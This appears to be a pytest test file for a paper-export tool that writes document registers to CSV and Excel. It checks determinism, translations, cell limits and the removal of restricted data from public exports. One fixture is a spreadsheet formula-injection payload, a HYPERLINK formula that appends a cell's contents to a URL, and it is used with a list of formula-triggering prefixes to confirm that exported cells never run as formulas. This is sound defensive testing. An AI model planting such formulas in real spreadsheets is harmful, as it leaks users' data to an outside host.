"""Registers for a spreadsheet: complete, as they are printed, and never a formula."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import date
from functools import cache
from pathlib import Path

import command_kit
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from test_papers import appended

from nioc_paper.assemble import assemble
from nioc_paper.export import REGISTERS, WRITERS, ExportSource, Table, build_tables
from nioc_paper.export.register_table import MAX_CELL_UNITS, clean_cell, find_truncated_registers
from nioc_paper.load import load
from nioc_paper.model import Document, History
from nioc_paper.wording import translated_head, wording_for

HERE = Path(__file__).parents[1]
PAPERS = HERE / "papers"
EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1,"click")'


@cache
def document() -> Document:
    return assemble(load(PAPERS / "healthy", lambda _: None), History(), 1_580_000_000)


def rows(data: bytes) -> list[list[str]]:
    """A CSV file read as RFC 4180 says."""
    text = data.decode("utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")
    assert "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def sheets(data: bytes) -> dict[str, list[list[str]]]:
    """The cells of a workbook by the names of its sheets: texts unchanged, dates and numbers as Excel has them."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = [sheet.get("name", "") for sheet in etree.fromstring(book.read("xl/workbook.xml")).iter("{*}sheet")]
        sheets = {}
        for number, name in enumerate(names, 1):
            sheet = etree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
            assert list(sheet.iter("{*}f")) == []
            assert [pane.get("state") for pane in sheet.iter("{*}pane")] == ["frozen"]
            sheets[name] = [["".join(map(str, c.itertext())) for c in line] for line in sheet.iter("{*}row")]
        return sheets


def nioc(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return command_kit.nioc(root, "export", *args)


def test_every_register_is_written_as_it_is_printed(tmp_path: Path) -> None:
    root = Path(shutil.copytree(PAPERS / "healthy", tmp_path / "paper"))
    output = nioc(root)
    assert (output.returncode, output.stderr) == (0, "")
    folder = root / "dist" / "registers"
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [*(f"{n}.csv" for n in REGISTERS), "crossings-registers.xlsx"]
    )
    read = {name: rows((folder / f"{name}.csv").read_bytes()) for name in REGISTERS}
    book = sheets((folder / "crossings-registers.xlsx").read_bytes())
    assert {name: (lines[0], len(lines)) for name, lines in read.items()} == {
        name: (lines[0], len(lines)) for name, lines in book.items()
    }
    (tunnel,) = [
        dict(zip(read["recommendations"][0], row, strict=True)) for row in read["recommendations"] if "TU-1" in row
    ]
    assert tunnel["Text"] == "Announce every closure of the tunnel a week ahead."
    assert (tunnel["By"], tunnel["Closes"], tunnel["Owner"]) == ("2020-09-30", "Gap TU-G1", "Ardale Town Council")
    gap = dict(zip(*read["gaps"][::2], strict=True))
    assert (gap["Number"], gap["Closed by"], gap["Sources"]) == ("TU-G1", "TU-1", "survey2019")


def test_the_same_paper_gives_the_same_bytes() -> None:
    paper = load(PAPERS / "healthy", lambda _: None)
    workbooks = [
        WRITERS["xlsx"](build_tables(ExportSource(paper, document(), History())), document()) for _ in range(2)
    ]
    assert workbooks[0] == workbooks[1]
    (data,) = workbooks[0].values()
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert b"2020-01-26T" in book.read("docProps/core.xml")


def test_every_head_has_a_word_in_each_language() -> None:
    heads = [head for register in REGISTERS.values() for head in register.columns]
    assert [head for head in heads if translated_head(wording_for("en"), head) != head] == []
    for language in ("de", "ur"):
        words = wording_for(language)
        same = {"DOI", "Definition", "Name", "Organisation", "Plural", "Status", "Text", "URL"}
        assert {head for head in heads if translated_head(words, head) == head} <= same, language


def test_dates_are_dates() -> None:
    table = Table("t", ("A", "B"), ((date(2020, 1, 2), -5),))
    (data,) = WRITERS["xlsx"]([table], document()).values()
    assert sheets(data)["t"][1] == ["43832", "-5"]
    assert rows(WRITERS["csv"]([table], document())["t.csv"])[1] == ["2020-01-02", "-5"]


DANGEROUS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\x00=", "a;=", "a;@")


@pytest.mark.parametrize("start", DANGEROUS)
def test_no_cell_is_a_formula(start: str) -> None:
    table = Table("t", ("A",), ((f"{start}{EVIL[1:]}",),))
    ((cell,),) = rows(WRITERS["csv"]([table], document())["t.csv"])[1:]
    assert "'" in cell.partition(EVIL[1:])[0] or cell.startswith(" ")
    (data,) = WRITERS["xlsx"]([table], document()).values()
    assert sheets(data)["t"][1][0].endswith(EVIL[1:])


def test_any_text_comes_back_as_one_cell(request: pytest.FixtureRequest) -> None:
    long = request.config.getoption("--long", default=False)
    rounds = settings(max_examples=1000 if long else 12, derandomize=not long)
    rounds(given(st.lists(st.text(max_size=40), min_size=1, max_size=4))(any_text_comes_back_as_one_cell))()


def any_text_comes_back_as_one_cell(texts: list[str]) -> None:
    table = Table("t", tuple("ABCD"[: len(texts)]), (tuple(text or None for text in texts),))
    (line,) = rows(WRITERS["csv"]([table], document())["t.csv"])[1:]
    assert len(line) == len(texts)
    assert not any(cell.startswith(tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")) for cell in line)
    (data,) = WRITERS["xlsx"]([table], document()).values()
    shown = [clean_cell(text) for text in texts if text]
    assert [cell for row in sheets(data)["t"][1:] for cell in row if cell] == [text for text in shown if text]


def test_a_text_beyond_the_cell_limit_is_cut_and_reported() -> None:
    table = Table("t", ("A",), (("\U0001f600" * MAX_CELL_UNITS,),))
    assert find_truncated_registers([table]) == ["t"]
    assert len(clean_cell("\U0001f600" * MAX_CELL_UNITS).encode("utf-16-le")) // 2 <= MAX_CELL_UNITS
    assert find_truncated_registers([Table("t", ("A",), (("a" * MAX_CELL_UNITS,),))]) == []


def test_a_public_export_has_no_internal_data(tmp_path: Path) -> None:
    root = Path(shutil.copytree(PAPERS / "healthy", tmp_path / "paper"))
    appended(
        root / "chapters" / "tunnels.md",
        "\n::: {.restricted}\n::: {.finding}\nThe canary knows [@survey2019].\n:::\n:::\n",
    )
    inside = nioc(root, "findings", "--to", "csv")
    outside = nioc(root, "--public")
    assert (inside.returncode, outside.returncode) == (0, 0)
    folder = root / "dist"
    assert "canary" in (folder / "registers" / "findings.csv").read_text(encoding="utf-8")
    public = {p.name: p.read_bytes() for p in (folder / "registers-public").iterdir()}
    book = sheets(public["crossings-public-registers.xlsx"])
    assert "canary" not in str(book)
    assert b"canary" not in b"".join(public.values())
    assert {"Note", "Permission", "Where"} & {head for n in REGISTERS for head in rows(public[f"{n}.csv"])[0]} == set()


def test_the_readable_parts_of_a_broken_paper_are_exported(tmp_path: Path) -> None:
    root = Path(shutil.copytree(PAPERS / "broken", tmp_path / "paper"))
    output = nioc(root, "chapters", "gaps", "--to", "xlsx")
    assert output.returncode == 0
    assert "see them with: nioc check" in output.stderr


def test_unknown_registers_and_formats_are_refused(tmp_path: Path) -> None:
    root = Path(shutil.copytree(PAPERS / "single", tmp_path / "paper"))
    wrong = nioc(root, "gap"), nioc(root, "--to", "ods")
    assert [w.returncode for w in wrong] == [2, 2]
    assert "did you mean 'gaps'?" in wrong[0].stderr
    assert nioc(root).returncode == 0


def test_names_of_sheets_are_names() -> None:
    assert all(len(name) <= 31 and name.isidentifier() and name != "history" for name in REGISTERS)


def test_a_letter_is_printed_or_a_file_in_a_folder(paper: Path) -> None:
    printed, written = (command_kit.succeed(paper, "remind", *options) for options in ((), ("--out", "dist/letters")))
    assert ("what we need from you" in printed.stdout, "what we need from you" in written.stdout) == (True, False)
    assert [*(paper / "dist/letters").glob("*.txt")]
